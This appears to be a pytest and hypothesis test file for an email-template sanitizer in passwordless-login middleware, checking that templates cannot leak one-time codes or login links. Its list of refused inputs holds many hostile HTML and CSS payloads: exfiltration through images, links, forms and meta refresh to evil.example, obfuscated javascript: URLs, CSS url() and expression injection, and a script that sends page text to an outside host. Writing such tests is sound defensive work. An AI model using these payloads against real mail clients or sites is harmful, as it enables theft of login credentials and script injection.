"""The HTML of a template: what is admitted is written anew, and no way to steal a code is among it
(security rule 64)."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pwless_middleware.rendering.mail_templates.elements import ELEMENTS, INLINE, VOID
from pwless_middleware.rendering.mail_templates.html import read_html
from pwless_middleware.rendering.mail_templates.language import read_template
from pwless_middleware.rendering.mail_templates.links import LinkRules
from pwless_middleware.rendering.mail_templates.nodes import Refused, fill
from pwless_middleware.rendering.mail_templates.template import ReadTemplate

ORIGIN = "https://app.example.com"
RULES = LinkRules(ORIGIN)
NAMES = frozenset(
    {"code", "link", "kind", "device", "brand.name", "palette.light.link", "palette.dark.accent"}
)
CODE, LINK = "271828", f"{ORIGIN}/auth/link?link_token=s3cr3t&x=1"
VALUES = {
    "code": CODE,
    "link": LINK,
    "kind": "LINK_OTP",
    "device": '"><script>alert(1)</script>',
    "brand.name": "<b>Acme</b> & 'Co'",
    "palette.light.link": "#3d4ed8",
    "palette.dark.accent": "#fff",
}


def written(html: str) -> str:
    read = read_html(read_template(html, NAMES), RULES)
    return ReadTemplate((), (), read.nodes, ()).fill_html(VALUES)


def refusal(html: str) -> Refused:
    with pytest.raises(Refused) as caught:
        written(html)
    return caught.value


@pytest.mark.parametrize(
    ("html", "sent"),
    [
        ("<p>Hi</p>", "<p>Hi</p>"),
        ("<P Class='a b'>Hi</P >", '<p class="a b">Hi</p>'),
        ("<br>", "<br>"),
        ("<br />", "<br>"),
        ("a &lt; b &amp; c > d & e", "a &lt; b &amp; c &gt; d &amp; e"),
        ("&copy; &#8364; &#x20ac;", "© € €"),
        ("<b>{{ code }}</b>", f"<b>{CODE}</b>"),
        ("{{ brand.name }}", "&lt;b&gt;Acme&lt;/b&gt; &amp; &#x27;Co&#x27;"),
        ("{{ device }}", "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
        (
            '<a href="{{ link }}">go</a>',
            f'<a href="{ORIGIN}/auth/link?link_token=s3cr3t&amp;x=1">go</a>',
        ),
        ('<a href="/a?b=1&c=2&amp;d=3">x</a>', f'<a href="{ORIGIN}/a?b=1&amp;c=2&amp;d=3">x</a>'),
        ('<a href="/?a=1&copy=2">x</a>', f'<a href="{ORIGIN}/?a=1&amp;copy=2">x</a>'),
        ('<img src="/l" alt="A &quot;B&quot;">', f'<img src="{ORIGIN}/l" alt="A &quot;B&quot;">'),
        (
            "<td style=\"color: {{ palette.light.link }} ; font-family:'Segoe UI', sans\">x</td>",
            '<td style="color:#3d4ed8;font-family:&#x27;Segoe UI&#x27;, sans;">x</td>',
        ),
        ('<td bgcolor="{{ palette.dark.accent }}">x</td>', '<td bgcolor="#fff">x</td>'),
        ("{% if code %}<p>a</p>{% else %}<p>b</p>{% endif %}", "<p>a</p>"),
        ('<p>{% if kind == "LINK_OTP" %}<i>{{ code }}</i>{% endif %}</p>', f"<p><i>{CODE}</i></p>"),
    ],
)  # fmt: skip
def test_what_was_read_is_written_anew(html: str, sent: str) -> None:
    assert written(html) == sent


THEFTS = [
    # Whoever serves the picture is told.
    '<img src="https://evil.example/?{{ code }}">',
    '<img src="https://app.example.com/?{{ code }}">',
    '<img src="/?{{ code }}">',
    '<img src="{{ link }}">',
    '<img src="{{ code }}">',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<img src="http://app.example.com/x.png">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="cid:x">',
    '<img src="/x.png" srcset="https://evil.example/{{ code }} 2x">',
    '<img src="/x.png" longdesc="https://evil.example/">',
    '<img src="/x.png" usemap="#m">',
    '<img src="/x.png" lowsrc="https://evil.example/">',
    '<img src="/x.png" dynsrc="https://evil.example/">',
    '<img src="/x.png" crossorigin="use-credentials">',
    '<img src="/x.png" onerror="alert(1)">',
    '<img src="/x.png" referrerpolicy="unsafe-url">',
    '<img src="/x.png" alt="{{ code }}">',
    '<img src="/x.png" alt="evil.example">',
    '<img src="/x.png" src="https://evil.example/">',
    "<img src=/x.png>",
    '<img src="/a/{% if code %}1{% endif %}.png">',
    '{% if code == "1" %}<img src="/1.png">{% endif %}',
    "<picture><source srcset=x></picture>",
    "<image src=x>",
    "<input type=image src=x>",
    '<table background="https://evil.example/{{ code }}"><tr><td>x</td></tr></table>',
    '<td background="/x.png">x</td>',
    # Links that take the code, or the link, along.
    '<a href="https://evil.example/?{{ code }}">x</a>',
    '<a href="https://app.example.com/?{{ code }}">x</a>',
    '<a href="{{ link }}&amp;to=evil">x</a>',
    '<a href=" {{ link }}">x</a>',
    '<a href="x{{ link }}">x</a>',
    '<a href="{{ link }}{{ link }}">x</a>',
    '<a href="https://evil.example/?u={{ link }}">x</a>',
    '<a href="{{ code }}">x</a>',
    '<a href="{{ device }}">x</a>',
    '<a href="{{ palette.light.link }}">x</a>',
    '<a href="{% if link %}{{ link }}{% endif %}">x</a>',
    '<a class="{{ link }}" href="/">x</a>',
    '<a href="{{ link }}" ping="https://evil.example/">x</a>',
    '<a href="{{ link }}" title="{{ code }}">x</a>',
    '<a href="mailto:evil@evil.example?body={{ code }}">x</a>',
    '<a href="mailto:evil@evil.example">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="https://evil.example">x</a>',
    '<a href="&#104;ttps://evil.example">x</a>',
    '<a href="https&colon;//evil.example">x</a>',
    '<a href="https://app.example.com&commat;evil.example/">x</a>',
    '<a href="https://app.example.com&period;evil.example/">x</a>',
    '<a href="https://app.example.com&bsol;@evil.example">x</a>',
    '<a href="/auth/link?link&lowbar;token=x">x</a>',
    '<a xlink:href="https://evil.example" href="/">x</a>',
    "<a>x</a>",
    '<a href="/"><a href="{{ link }}">x</a></a>',
    '<a href="/" target="_blank" rel="opener">x</a>',
    # Words that a program makes a link of.
    "<p>evil.example/{{ code }}</p>",
    "<p>evil.example</p>",
    "<p>evil&period;example</p>",
    "<p>evil&#46;example</p>",
    "<p>evil<b>.</b>example/{{ code }}</p>",
    "<p>evil<i>.exam</i>ple</p>",
    "<p>evil.<span>example/</span>{{ code }}</p>",
    "<p>evil.<img src='/x.png' alt='x'>example</p>",
    "<p>evil&shy;.example</p>",
    "<p>evil&ZeroWidthSpace;.example</p>",
    "<p>https:<b>//evil/</b>{{ code }}</p>",
    "<p>https://app.example.com/{{ code }}</p>",
    "<p>https://app.example.com/<b>{{ code }}</b></p>",
    "<p>https://app.example.com/{% if code %}<b>{{ code }}</b>{% endif %}</p>",
    "<p>x<b>{{ link }}</b></p>",
    "<p>{{ link }}<b>.evil.example</b></p>",
    "<a href='/'>evil.example</a>",
    # Styles.
    '<p style="background:url(https://evil.example/)">x</p>',
    '<p style="background:url(/x.png)">x</p>',
    '<p style="background-image:url(/x.png)">x</p>',
    '<p style="background:URL (x)">x</p>',
    '<p style="background:u\\72l(x)">x</p>',
    '<p style="background:ur/**/l(x)">x</p>',
    '<p style="background:&#117;rl(x)">x</p>',
    '<p style="background:image-set(&quot;x&quot; 1x)">x</p>',
    '<p style="background:{{ code }}">x</p>',
    '<p style="background:{{ link }}">x</p>',
    '<p style="{{ palette.light.link }}:x">x</p>',
    '<p style="color:{{ palette.light.link }}(x)">x</p>',
    '<p style="list-style-image:url(x)">x</p>',
    '<p style="list-style:url(x)">x</p>',
    '<p style="cursor:url(x)">x</p>',
    '<p style="content:url(x)">x</p>',
    '<p style="border-image:url(x)">x</p>',
    '<p style="mask:url(x)">x</p>',
    '<p style="filter:url(x)">x</p>',
    '<p style="behavior:url(x)">x</p>',
    '<p style="-moz-binding:url(x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:attr(title)">x</p>',
    '<p style="--x:1">x</p>',
    '<p style="color:var(--x)">x</p>',
    '<p style="width:calc(1px)">x</p>',
    '<p style="position:fixed">x</p>',
    '<p style="@import x">x</p>',
    '<p style="color:red}body{background:url(x)">x</p>',
    '<p style="color:red&quot; onclick=&quot;x">x</p>',
    "<p style=\"font-family:'x\">x</p>",
    "<p style=\"font-family:'x\\27 \">x</p>",
    '<p style="color">x</p>',
    '<p style="color:">x</p>',
    '<p style="display:inline">x</p>',
    '<p style="color:red/">x</p>'.replace("red/", "red//"),
    '<p style="color:red&NewLine;;x:y">x</p>',
    '<td bgcolor="url(x)">x</td>',
    '<td bgcolor="{{ code }}">x</td>',
    '<td bgcolor="red{{ palette.light.link }}">x</td>',
    "<style>p{background:url(x)}</style>",
    "<style>a[href*=s3]{color:red}</style>",
    '<link rel="stylesheet" href="https://evil.example/">',
    # Forms and frames.
    '<form action="https://evil.example"><input name="x" value="{{ code }}"></form>',
    '<input value="{{ code }}">',
    "<button>x</button>",
    "<textarea>{{ code }}</textarea>",
    "<select><option>{{ code }}</option></select>",
    '<iframe src="https://evil.example/?{{ code }}"></iframe>',
    '<iframe srcdoc="{{ code }}"></iframe>',
    "<frameset><frame src=x></frameset>",
    '<object data="x"></object>',
    '<embed src="x">',
    '<video src="x"></video>',
    '<audio src="x"></audio>',
    '<video><track src="x"></video>',
    "<map><area href=x></map>",
    "<marquee>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ code }}">',
    '<base href="https://evil.example/">',
    "<title>{{ code }}</title>",
    "<script>new Image().src='//evil.example/'+document.body.innerText</script>",
    "<script src=x></script>",
    "<noscript>x</noscript>",
    "<template>x</template>",
    "<plaintext>",
    "<xmp>x</xmp>",
    "<listing>x</listing>",
    "<noembed>x</noembed>",
    "<noframes>x</noframes>",
    "<svg><image href='https://evil.example/'/></svg>",
    "<svg><style>x</style></svg>",
    "<svg><a href='javascript:x'>x</a></svg>",
    "<math><mtext></mtext></math>",
    "<font face=x>x</font>",
    "<body background='x'>x</body>",
    "<html>x</html>",
    "<head></head>",
    "<!doctype html>",
    # Marks that are read in more than one way.
    "<!-- x -->",
    "<!--[if mso]><img src='https://evil.example/{{ code }}'><![endif]-->",
    "<![if !mso]>x<![endif]>",
    "<!--><img src=x>-->",
    "<!ENTITY x>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<?php x ?>",
    "<%= x %>",
    "</>",
    "< p>x</p>",
    "</ p>",
    "<p",
    "<p ",
    "<p class",
    "<p class>x</p>",
    "<p class=a>x</p>",
    "<p class='a'id='b'>x</p>",
    "<p/class='a'>x</p>",
    "<p class='a' class='b'>x</p>",
    "<p class='a<b'>x</p>",
    "<p class='a>b'>x</p>",
    "<p class=`a`>x</p>",
    "<p class='{{ code }}'>x</p>",
    "<p id='a'>x</p>",
    "<p title='{{ code }}'>x</p>",
    "<p onclick='x'>x</p>",
    "<p onclick\t='x'>x</p>",
    "<p data-x='{{ code }}'>x</p>",
    "<p name='x'>x</p>",
    "<p hidden>x</p>",
    "<p is='x-y'>x</p>",
    "<p contenteditable='true'>x</p>",
    "<p style='color:red' STYLE='background:url(x)'>x</p>",
    "<{{ code }}>",
    "<p {{ code }}>x</p>",
    "<p {{ code }}='x'>x</p>",
    "<{% if code %}p{% endif %}>x</p>",
    "<p {% if code %}class='a'{% endif %}>x</p>",
    "<p class='{% if code %}a{% endif %}'>x</p>",
    "<p class='a{% if code %}' onclick='{% endif %}'>x</p>",
    "<sc{# #}ript>x</script>",
    "<scr\x00ipt>x</script>",
    "<p\x0cclass='a'>x</p>",
    "＜script＞x＜/script＞<script>",
    "&#xF0000;",
    "<p class='&#xF0000;'>x</p>",
    "<td bgcolor='&#xF0000;'>{{ code }}</td>",
    "<a href='&#xF0000;'>{{ code }}</a>",
    "a&#x202e;b",
    # Elements that do not fit, so that what stands behind is read in another place.
    "<p>x",
    "x</p>",
    "<b><i>x</b></i>",
    "<br></br>",
    "</br>",
    "{% if code %}<p>{% endif %}x</p>",
    "<p>{% if code %}</p>{% endif %}",
    "{% if code %}<p>{% else %}<p>{% endif %}x</p>",
    "<p>{% if code %}</p><p>{% endif %}x</p>",
    "<div>" * 65 + "x" + "</div>" * 65,
]  # fmt: skip


@pytest.mark.parametrize("html", THEFTS)
def test_what_could_tell_a_code_is_refused_where_it_stands(html: str) -> None:
    refused = refusal(f"<p>one</p>\n<p>two</p>\n{html}")
    assert refused.line == 3
    assert len(refused.reason) > 10


@pytest.mark.parametrize("name", sorted(ELEMENTS))
def test_every_element_that_there_is_has_its_place(name: str) -> None:
    attributes = {"a": ' href="/"', "img": ' src="/x" alt=""'}.get(name, "")
    html = f"<{name}{attributes}>" + ("" if name in VOID else f"x</{name}>")
    assert written(html)


def test_an_image_without_words_is_noted_with_its_line() -> None:
    html = "<p>x</p>\n<img src='/a.png'>\n<img src='/b.png' alt=''>"
    assert read_html(read_template(html, NAMES), RULES).bare_images == (2,)


# --- whatever is admitted, holds -----------------------------------------------------------------


class Told(HTMLParser):
    """Read a mail as another reader does, and note where its values have come to stand."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words = ""
        self.opened: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS
        for name, value in attrs:
            assert name in ELEMENTS[tag]
            assert value is not None
            assert CODE not in value
            if (tag, name) == ("a", "href"):
                assert value in (LINK, "") or value.startswith(f"{ORIGIN}/")
            elif (tag, name) == ("img", "src"):
                assert value.startswith(f"{ORIGIN}/")
            elif name != "alt":
                assert not re.search(r"//|url|expression|import|script|\\", value, re.IGNORECASE)
            assert value == LINK or "s3cr3t" not in value
        self.words += "" if tag in {*INLINE, "img"} else "\n"
        if tag not in VOID:
            self.opened.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.words += "" if tag in INLINE else "\n"
        assert self.opened.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


PIECES = st.sampled_from(
    [
        *("<p>", "</p>", "<b>", "</b>", "<br>", "<table>", "</table>", "<tr>", "</tr>", "<td>"),
        *('<a href="', '">', "<a href='", "'>", "</a>", "{{ link }}", "{{ code }}", "{{ device }}"),
        *("<img src='", "/x.png", "' alt='", "'", '"', " ", "\n", "=", "<", ">", "/", "//", ":"),
        *("https://app.example.com/", "https://evil.example/", "evil", ".example", "?", "&", "#"),
        *("{% if code %}", "{% if not link %}", "{% else %}", "{% endif %}", "{# #}", "{{", "}}"),
        *("<p style='", "color:", "background:", "url(", ")", "red", "{{ palette.light.link }}"),
        *("&lt;", "&amp;", "&#60;", "&quot;", "&#x27;", "&#xF0000;", "<!--", "-->", "<script>"),
        *("\u200b", "\x00", "\U000f0000", "é", "x", "<td bgcolor='", "class", "onerror='", "{%"),
        *("</td>", ";", "."),
    ]
)

WHOLE = (
    "<table style='color:{{ palette.light.link }}'><tr><td>a {{ code }}</td></tr></table>",
    "<p class='x'>{% if code %}<b>{{ code }}</b> x{% else %}<br>{{ device }}{% endif %}</p>",
    "<a href='{{ link }}'><img src='/x.png' alt='a &amp; b'></a>",
    "<p>see https://app.example.com/a or <i>app.example.com</i><br>{{ link }}</p>",
)


@st.composite
def nearly_admitted(draw: st.DrawFn) -> str:
    """Return HTML that is admitted, with a few pieces put in, or taken out, anywhere."""
    html = "".join(draw(st.lists(st.sampled_from(WHOLE), min_size=1, max_size=3)))
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(0, len(html)))
        until = at + draw(st.sampled_from([0, 0, 0, 1, 5]))
        html = html[:at] + draw(PIECES) + html[until:]
    return html


@settings(max_examples=200, deadline=None)
@given(nearly_admitted())
def test_whatever_is_admitted_tells_nobody(html: str) -> None:
    try:
        nodes = read_html(read_template(html, NAMES), RULES).nodes
    except Refused:
        return
    for values in (VALUES, {**VALUES, "link": None}, {**VALUES, "code": None}):
        reader = Told()
        sent = fill(nodes, values, escape)
        reader.feed(sent)
        reader.close()
        assert reader.opened == []
        for word in reader.words.split():
            assert CODE not in word or "://" not in word
